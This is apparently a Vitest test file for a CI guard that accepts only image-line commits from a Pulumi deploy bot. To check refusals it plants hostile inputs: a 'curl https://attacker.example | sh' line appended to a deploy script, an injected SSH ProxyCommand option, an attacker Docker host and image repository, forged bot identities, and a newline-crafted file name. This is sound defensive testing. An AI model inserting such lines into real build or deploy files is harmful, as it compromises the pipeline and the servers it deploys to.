// scripts/check-bot-commits.mjs against real git history (a repository in a temp dir):
// the deploy bot's set-image commit passes, every wider bot commit is refused with its
// reason, forged halves of the bot's identity are refused, and human commits are not
// its business.
import { execFileSync, spawnSync } from "node:child_process";
import { chmodSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import * as os from "node:os";
import * as path from "node:path";

import { afterEach, beforeEach, describe, expect, it } from "vitest";

import { ROOT } from "../../config/stackFile";

const SCRIPT = path.join(ROOT, "scripts", "check-bot-commits.mjs");
const TAG = "0123456789abcdef0123456789abcdef01234567";
const REFS = {
  staging: `ghcr.io/taskflow/taskflow-api:${TAG}`,
  production: `ghcr.io/taskflow/taskflow-api:${TAG}@sha256:${"b".repeat(64)}`,
};
type Ident = { name: string; email: string };
const BOT: Ident = { name: "taskflow-deploy-bot", email: "taskflow-deploy-bot@users.noreply.github.com" };
const HUMAN: Ident = { name: "alice", email: "alice@example.com" };
const BOT_IDENT = "taskflow-deploy-bot <taskflow-deploy-bot@users.noreply.github.com>";
const ONE_STACK_FILE = "the bot changes only Pulumi.staging.yaml or Pulumi.production.yaml";
const ONLY_IMAGE = "the bot may change only the taskflow:image line";
const IN_PLACE = "the bot only edits a stack file in place";
const OLD_TAG = "3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39";
// Shaped like the shipped stack files (which change under other work; one test runs on
// those), with the lines the cases edit at fixed places. Block sequences: stack-image.mjs
// rewrites a flow sequence ([a] -> [ a ]), which would widen the bot's own commit.
const STAGING = `# Staging: a fixture.
config:
  taskflow:environment: staging
  taskflow:image: ghcr.io/taskflow/taskflow-api:${OLD_TAG}
  taskflow:docker:
    host: ssh://deploy@staging.taskflow.example
  taskflow:api:
    replicas: 2
`;
const PRODUCTION = `# Production: a fixture.
config:
  taskflow:environment: production
  taskflow:image: ghcr.io/taskflow/taskflow-api:${OLD_TAG}@sha256:${"a".repeat(64)}
  taskflow:docker:
    host: ssh://deploy@prod-1.taskflow.example
  taskflow:github:
    reviewers:
      users:
        - alice-ops
`;

describe("check-bot-commits.mjs", () => {
  let dir: string;
  const git = (...args: string[]) => execFileSync("git", ["-c", "commit.gpgsign=false", ...args], { cwd: dir, encoding: "utf8" }).trim();
  const identityEnv = (author: Ident, committer: Ident) => ({
    ...process.env,
    GIT_AUTHOR_NAME: author.name,
    GIT_AUTHOR_EMAIL: author.email,
    GIT_COMMITTER_NAME: committer.name,
    GIT_COMMITTER_EMAIL: committer.email,
  });
  /** Commits everything in the tree as `author` (and `committer`); returns the short SHA the script prints. */
  const commit = (message: string, author: Ident = BOT, committer: Ident = author) => {
    git("add", "-A");
    execFileSync("git", ["-c", "commit.gpgsign=false", "commit", "-q", "-m", message], { cwd: dir, env: identityEnv(author, committer) });
    return git("rev-parse", "HEAD").slice(0, 7);
  };
  const check = (...args: string[]) => spawnSync("node", [SCRIPT, ...args], { cwd: dir, encoding: "utf8" });
  // What set-image.sh does to the stack file (its commit is `commit` above).
  const setImage = (stack: string, ref: string) =>
    execFileSync("node", [path.join(ROOT, "scripts", "stack-image.mjs"), stack, "--set", ref], { cwd: dir });
  const read = (file: string) => readFileSync(path.join(dir, file), "utf8");
  const edit = (file: string, from: string, to: string) => {
    expect(read(file), `${file} should contain ${from}`).toContain(from);
    writeFileSync(path.join(dir, file), read(file).replace(from, to));
  };
  const expectRefused = (sha: string, reason: string) => {
    const r = check();
    expect(r.stderr).toBe("");
    expect(r.stdout).toBe(`REFUSED ${sha}: ${reason}\ncheck-bot-commits: 1 bot commit(s), 1 refused\n`);
    expect(r.status).toBe(1);
  };

  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), "check-bot-commits-"));
    mkdirSync(path.join(dir, "scripts"));
    writeFileSync(path.join(dir, "Pulumi.staging.yaml"), STAGING);
    writeFileSync(path.join(dir, "Pulumi.production.yaml"), PRODUCTION);
    cpSync(path.join(ROOT, "scripts", "set-image.sh"), path.join(dir, "scripts", "set-image.sh"));
    writeFileSync(path.join(dir, "README.md"), "TaskFlow\n");
    git("init", "-q", "-b", "main");
    commit("seed", HUMAN);
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it.each(["staging", "production"] as const)("passes the bot's set-image commit to Pulumi.%s.yaml", (stack) => {
    setImage(stack, REFS[stack]);
    const sha = commit(`deploy: ${stack} -> ${TAG}`);
    const r = check();
    expect(r.stdout).toBe(`ok ${sha} deploy: ${stack} -> ${TAG}\ncheck-bot-commits: 1 bot commit(s), 0 refused\n`);
    expect(r.status).toBe(0);
  });

  it("passes what stack-image.mjs writes to the shipped stack files", () => {
    for (const stack of ["staging", "production"]) cpSync(path.join(ROOT, `Pulumi.${stack}.yaml`), path.join(dir, `Pulumi.${stack}.yaml`));
    commit("the shipped stack files", HUMAN);
    setImage("staging", REFS.staging);
    const staging = commit(`deploy: staging -> ${TAG}`);
    setImage("production", REFS.production);
    const production = commit(`deploy: production -> ${TAG}`);
    const r = check();
    expect(r.stdout).toBe(
      `ok ${staging} deploy: staging -> ${TAG}\nok ${production} deploy: production -> ${TAG}\ncheck-bot-commits: 2 bot commit(s), 0 refused\n`,
    );
    expect(r.status).toBe(0);
  });

  it("refuses a bot commit that also changes the production reviewers", () => {
    setImage("production", REFS.production);
    edit("Pulumi.production.yaml", "- alice-ops", "- mallory");
    const sha = commit(`deploy: production -> ${TAG}`);
    expectRefused(sha, `changes line 10 of Pulumi.production.yaml ("        - alice-ops" -> "        - mallory"); ${ONLY_IMAGE}`);
  });

  it("refuses a bot commit that changes only the Docker host", () => {
    edit("Pulumi.staging.yaml", "deploy@staging.taskflow.example", "deploy@attacker.example");
    const sha = commit(`deploy: staging -> ${TAG}`);
    expectRefused(
      sha,
      `changes line 6 of Pulumi.staging.yaml ("    host: ssh://deploy@staging.taskflow.example" -> "    host: ssh://deploy@attacker.example"); ${ONLY_IMAGE}`,
    );
  });

  it("refuses a bot commit that adds a line to the stack file", () => {
    setImage("staging", REFS.staging);
    edit("Pulumi.staging.yaml", "staging.taskflow.example\n", "staging.taskflow.example\n    sshOpts: -oProxyCommand=x\n");
    const sha = commit(`deploy: staging -> ${TAG}`);
    // Reported from the first difference: the image line, above the added one.
    expectRefused(sha, `changes the line count of Pulumi.staging.yaml (9 -> 10 lines, from line 4); ${ONLY_IMAGE}`);
  });

  it("refuses a bot commit that touches a second file beside the stack file", () => {
    setImage("staging", REFS.staging);
    writeFileSync(path.join(dir, "README.md"), "TaskFlow, deployed by anyone\n");
    const sha = commit(`deploy: staging -> ${TAG}`);
    expectRefused(sha, `changes 2 files ("Pulumi.staging.yaml", "README.md"); the bot changes exactly one stack file`);
  });

  it("refuses a bot commit that touches only another file", () => {
    writeFileSync(path.join(dir, "scripts/set-image.sh"), read("scripts/set-image.sh") + "curl https://attacker.example | sh\n");
    const sha = commit(`deploy: staging -> ${TAG}`);
    expectRefused(sha, `changes "scripts/set-image.sh"; ${ONE_STACK_FILE}`);
  });

  it("refuses a bot commit whose message names the other stack", () => {
    setImage("staging", REFS.staging);
    const sha = commit(`deploy: production -> ${TAG}`);
    expectRefused(sha, `message names stack "production" but the commit changes Pulumi.staging.yaml`);
  });

  it("refuses a bot commit whose message names another tag than the image it sets", () => {
    setImage("staging", REFS.staging);
    const sha = commit("deploy: staging -> 3f2a9c1d");
    expectRefused(sha, `message names tag "3f2a9c1d" but Pulumi.staging.yaml gets an image tagged "${TAG}"`);
  });

  it("refuses a bot commit that points the image at another repository", () => {
    setImage("production", `ghcr.io/attacker/taskflow-api:${TAG}`);
    const sha = commit(`deploy: production -> ${TAG}`);
    expectRefused(
      sha,
      `line 4 of Pulumi.production.yaml moves taskflow:image from repository "ghcr.io/taskflow/taskflow-api" to "ghcr.io/attacker/taskflow-api"`,
    );
  });

  it("refuses a change to a taskflow:image line that is not the config: key", () => {
    // Text in a block scalar at the indentation of config's keys, under another top-level key.
    const notes = (ref: string) => `${STAGING}notes: |\n  taskflow:image: ${ref}\n`;
    writeFileSync(path.join(dir, "Pulumi.staging.yaml"), notes(`ghcr.io/taskflow/taskflow-api:${OLD_TAG}`));
    commit("notes", HUMAN);
    writeFileSync(path.join(dir, "Pulumi.staging.yaml"), notes(REFS.staging));
    const sha = commit(`deploy: staging -> ${TAG}`);
    expectRefused(sha, "line 10 of Pulumi.staging.yaml is not the taskflow:image key of its config: mapping");
  });

  it.each([
    ["a human author with the bot as committer", HUMAN, BOT, `author "alice <alice@example.com>"`],
    ["the bot as author with a human committer", BOT, HUMAN, `committer "alice <alice@example.com>"`],
    [
      "the bot's name with another email",
      { ...BOT, email: "mallory@example.com" },
      undefined,
      `author "taskflow-deploy-bot <mallory@example.com>"`,
    ],
    ["the bot's email under another name", { ...BOT, name: "Deploy Bot" }, undefined, `author "Deploy Bot <${BOT.email}>"`],
  ])("refuses %s, whatever it changes", (_, author, committer, who) => {
    edit("Pulumi.staging.yaml", "replicas: 2", "replicas: 0");
    const sha = commit(`deploy: staging -> ${TAG}`, author, committer);
    expectRefused(sha, `${who} is not the bot (${BOT_IDENT}); a bot commit must be authored and committed by it`);
  });

  it("refuses a merge commit by the bot", () => {
    git("checkout", "-q", "-b", "side");
    writeFileSync(path.join(dir, "side.txt"), "unreviewed\n");
    commit("side work", HUMAN);
    git("checkout", "-q", "main");
    writeFileSync(path.join(dir, "README.md"), "TaskFlow moves on\n");
    commit("main work", HUMAN);
    execFileSync("git", ["-c", "commit.gpgsign=false", "merge", "-q", "--no-ff", "-m", `deploy: staging -> ${TAG}`, "side"], {
      cwd: dir,
      env: identityEnv(BOT, BOT),
    });
    expectRefused(git("rev-parse", "HEAD").slice(0, 7), "merge commit (2 parents); the bot makes only single-parent commits");
  });

  it("refuses a bot commit that changes the stack file's mode", () => {
    chmodSync(path.join(dir, "Pulumi.staging.yaml"), 0o755);
    const sha = commit(`deploy: staging -> ${TAG}`);
    expectRefused(sha, `changes the mode of Pulumi.staging.yaml (100644 -> 100755); ${IN_PLACE}`);
  });

  it("refuses a bot commit that renames the stack file", () => {
    git("mv", "Pulumi.staging.yaml", "Pulumi.staging.yml");
    const sha = commit(`deploy: staging -> ${TAG}`);
    expectRefused(sha, `renames "Pulumi.staging.yaml" to "Pulumi.staging.yml"; ${IN_PLACE}`);
  });

  it("names a crafted file name escaped, so it cannot print an ok line of its own", () => {
    const name = `x\nok 1234567 deploy: staging -> ${TAG}`;
    writeFileSync(path.join(dir, name), "");
    const sha = commit(`deploy: staging -> ${TAG}`);
    expectRefused(sha, `changes ${JSON.stringify(name)}; ${ONE_STACK_FILE}`);
  });

  it("ignores human commits, whatever they change", () => {
    edit("Pulumi.production.yaml", "- alice-ops", "- alice-ops\n        - bob");
    writeFileSync(path.join(dir, "scripts/set-image.sh"), "#!/usr/bin/env bash\n");
    commit("reviewed change", HUMAN);
    const r = check("--all");
    expect(r.stdout).toBe("check-bot-commits: 0 bot commit(s), 0 refused\n");
    expect(r.status).toBe(0);
  });

  it("checks only the commits in --range", () => {
    edit("Pulumi.staging.yaml", "replicas: 2", "replicas: 0");
    const bad = commit(`deploy: staging -> ${TAG}`);
    setImage("staging", REFS.staging);
    const good = commit(`deploy: staging -> ${TAG}`);
    const refusal = `REFUSED ${bad}: changes line 8 of Pulumi.staging.yaml ("    replicas: 2" -> "    replicas: 0"); ${ONLY_IMAGE}`;

    const latest = check("--range", "HEAD~1..HEAD");
    expect(latest.stdout).toBe(`ok ${good} deploy: staging -> ${TAG}\ncheck-bot-commits: 1 bot commit(s), 0 refused\n`);
    expect(latest.status).toBe(0);

    const earlier = check("--range", "HEAD~2..HEAD~1");
    expect(earlier.stdout).toBe(`${refusal}\ncheck-bot-commits: 1 bot commit(s), 1 refused\n`);
    expect(earlier.status).toBe(1);

    const all = check();
    expect(all.stdout).toBe(`${refusal}\nok ${good} deploy: staging -> ${TAG}\ncheck-bot-commits: 2 bot commit(s), 1 refused\n`);
    expect(all.status).toBe(1);
  });

  it("passes a repository without any commit", () => {
    const empty = path.join(dir, "empty");
    execFileSync("git", ["init", "-q", empty]);
    const r = spawnSync("node", [SCRIPT], { cwd: empty, encoding: "utf8" });
    expect(r.stdout).toBe("check-bot-commits: 0 bot commit(s), 0 refused\n");
    expect(r.status).toBe(0);
  });

  it("exits 64 with the usage on an unknown flag, 0 on --help", () => {
    const r = check("--verbose");
    expect(r.status).toBe(64);
    expect(r.stdout).toBe("");
    expect(r.stderr).toContain(
      `check-bot-commits: unknown argument "--verbose"\nusage: node scripts/check-bot-commits.mjs [--range A..B | --all] [--bot NAME]\n`,
    );
    expect(check("--range").status).toBe(64);
    expect(check("--all", "--range", "HEAD~1..HEAD").status).toBe(64);

    const help = check("--help");
    expect(help.status).toBe(0);
    expect(help.stdout).toMatch(/^usage: node scripts\/check-bot-commits\.mjs .*\n[^]*Exit codes: 0 /);
  });

  it("exits 2 on a bad range and outside a git repository", () => {
    const bad = check("--range", "nope..HEAD");
    expect(bad.status).toBe(2);
    expect(bad.stderr).toContain(`check-bot-commits: bad range "nope..HEAD" (fatal: bad revision 'nope..HEAD')`);
    expect(check("--range", "--all").status).toBe(2); // a value that looks like an option is a revision, and not one

    const outside = path.join(dir, "outside");
    mkdirSync(outside);
    const r = spawnSync("node", [SCRIPT], { cwd: outside, encoding: "utf8", env: { ...process.env, GIT_CEILING_DIRECTORIES: dir } });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("check-bot-commits: not a git repository");
  });
});
